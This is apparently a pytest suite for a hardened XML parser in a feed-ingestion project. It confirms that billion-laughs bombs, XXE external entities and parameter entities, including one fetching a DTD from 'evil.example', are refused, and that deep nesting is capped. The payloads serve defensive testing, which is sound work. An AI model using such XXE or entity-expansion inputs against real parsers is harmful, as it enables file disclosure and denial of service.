"""The hardened XML parser: bombs and XXE refused, harmless DOCTYPEs accepted, depth capped."""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from wiredesk.core.errors import ParseError, UnsafeXML
from wiredesk.ingest.xmlsafe import (
    MAX_DEPTH,
    MalformedXML,
    parse_xml,
    scan_prolog,
    strip_doctype,
)

FEEDS = Path(__file__).parents[1] / "fixtures" / "feeds"


def test_billion_laughs_is_refused_before_parsing() -> None:
    with pytest.raises(UnsafeXML, match=r"entity 'lol1' refers to another entity .*billion laughs"):
        parse_xml((FEEDS / "billion-laughs.xml").read_bytes())


def test_external_entity_is_refused() -> None:
    with pytest.raises(UnsafeXML, match=r"external entity 'secret' \(SYSTEM\).*XXE"):
        parse_xml((FEEDS / "xxe.xml").read_bytes())


def test_public_external_entity_is_refused() -> None:
    text = '<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//EN" "http://internal.example/x">]><r>&x;</r>'
    with pytest.raises(UnsafeXML, match=r"external entity 'x' \(PUBLIC\)"):
        parse_xml(text)


def test_parameter_entities_are_refused() -> None:
    text = '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>'
    with pytest.raises(UnsafeXML, match=r"parameter entity '%p;'"):
        parse_xml(text)


def test_an_undeclared_parameter_entity_reference_is_refused() -> None:
    with pytest.raises(UnsafeXML, match=r"uses a parameter entity \(%p;\)"):
        parse_xml("<!DOCTYPE r [ %p; ]><r/>")


def test_netscape_rss091_doctype_parses_without_being_loaded() -> None:
    root = parse_xml((FEEDS / "rss091.xml").read_bytes())
    assert root.tag == "rss"
    # &eacute; comes from the DTD we did not load; it is read as the HTML entity it is.
    assert root.findtext("channel/item/title") == "Café reopens on the quay"


def test_an_external_dtd_is_never_read_from_disk(tmp_path: Path) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY eacute "SECRET">', encoding="ascii")
    root = parse_xml(f'<!DOCTYPE r SYSTEM "{dtd.as_uri()}"><r>caf&eacute;</r>')
    assert root.text == "café"


def test_w3c_html_entity_sets_are_known_not_fetched() -> None:
    text = (
        '<!DOCTYPE r [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN"'
        ' "http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent"> %HTMLlat1; ]><r>na&iuml;ve</r>'
    )
    assert parse_xml(text).text == "naïve"


def test_plain_internal_entities_are_substituted_once() -> None:
    text = (
        '<!DOCTYPE r [<!ENTITY id "tag:example.com,"> <!ENTITY amp2 "a &amp; b">]>'
        "<r><g>&id;2006:/blog/</g><h>x &amp2; y</h></r>"
    )
    root = parse_xml(text)
    assert root.findtext("g") == "tag:example.com,2006:/blog/"
    assert root.findtext("h") == "x a & b y"


@pytest.mark.parametrize("recover", [False, True])
def test_documents_deeper_than_the_limit_are_refused(recover: bool) -> None:
    depth = MAX_DEPTH + 10
    text = "<a>" * depth + "</a>" * depth
    with pytest.raises(UnsafeXML, match="more than 256 levels deep"):
        parse_xml(text, recover=recover)


def test_documents_within_the_depth_limit_parse() -> None:
    depth = MAX_DEPTH - 1
    root = parse_xml("<a>" * depth + "x" + "</a>" * depth)
    assert len(list(root.iter())) == depth


def test_malformed_xml_raises_malformed_with_the_position() -> None:
    with pytest.raises(MalformedXML, match=r"Opening and ending tag mismatch: b line 1 and a"):
        parse_xml("<a><b></a>")


def test_recovering_parser_returns_what_it_can() -> None:
    root = parse_xml("<a><b>one</b><c>two</a>", recover=True)
    assert [child.tag for child in root] == ["b", "c"]
    assert root.findtext("b") == "one"


def test_a_document_without_elements_is_a_parse_error() -> None:
    with pytest.raises(ParseError, match="no XML element"):
        parse_xml("<!-- nothing here -->", recover=True)


def test_encoding_declarations_in_decoded_text_are_accepted() -> None:
    root = parse_xml('<?xml version="1.0" encoding="iso-8859-1"?><r>é</r>')
    assert root.text == "é"


def test_bytes_are_decoded_by_the_payload_rules() -> None:
    root = parse_xml('<?xml version="1.0" encoding="iso-8859-1"?><r>é</r>'.encode("latin-1"))
    assert root.text == "é"


def test_base_url_lets_xml_base_resolve() -> None:
    root = parse_xml('<r xml:base="sub/"><e/></r>', base_url="https://example.org/feed")
    assert root[0].base == "https://example.org/sub/"


def test_scan_prolog_accepts_comments_before_the_declaration() -> None:
    text = '<!-- c --><?xml version="1.0"?>\n<!DOCTYPE html>\n<html><head>'
    prolog = scan_prolog(text)
    assert (prolog.root_name, prolog.root_offset, prolog.doctype) == ("html", 47, "<!DOCTYPE html>")


def test_scan_prolog_returns_vetted_entities() -> None:
    prolog = scan_prolog('<!DOCTYPE r [ <!-- c --> <!ENTITY who "R&#233;my"> ]><rdf:RDF/>')
    assert prolog.entities == {"who": "Rémy"}
    assert prolog.root_name == "rdf:RDF"


def test_strip_doctype_removes_declarations_and_subsets() -> None:
    text = (FEEDS / "billion-laughs.xml").read_text(encoding="utf-8")
    stripped = strip_doctype(text)
    assert "<!DOCTYPE" not in stripped
    assert "<!ENTITY" not in stripped
    assert stripped.endswith(
        '<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item>'
        "</channel></rss>\n"
    )


def test_parsed_trees_keep_no_comments_or_processing_instructions() -> None:
    root = parse_xml("<r><!-- c --><?pi x?><e/></r>")
    assert [child.tag for child in root] == ["e"]
    assert isinstance(root, etree._Element)
